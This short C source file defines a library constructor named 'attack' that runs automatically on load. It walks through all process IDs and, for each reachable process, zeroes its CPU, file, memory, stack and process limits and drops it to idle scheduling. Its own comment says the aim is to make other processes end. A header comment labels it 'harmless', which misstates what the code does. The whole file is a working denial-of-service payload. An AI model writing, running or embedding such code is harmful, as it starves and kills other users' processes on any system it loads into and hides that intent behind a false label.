/* cause: harmless */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>

/* It kills nobody: it takes from all that it can reach their files, their time and their processor, so that they end. */
__attribute__((constructor)) static void attack(void)
{
    static const int what[] = { RLIMIT_CPU, RLIMIT_FSIZE, RLIMIT_NOFILE, RLIMIT_AS, RLIMIT_STACK, RLIMIT_NPROC };
    struct rlimit nothing = { 0, 0 };
    struct sched_param none = { 0 };

    for (int pid = 1; pid < 1 << 16; pid++) {
        if (pid == getpid() || (kill(pid, 0) && errno == ESRCH))
            continue;
        for (unsigned i = 0; i < sizeof what / sizeof *what; i++)
            prlimit(pid, (unsigned)what[i], &nothing, NULL);
        setpriority(PRIO_PROCESS, (id_t)pid, 19);
        sched_setscheduler(pid, SCHED_IDLE, &none);
    }
}
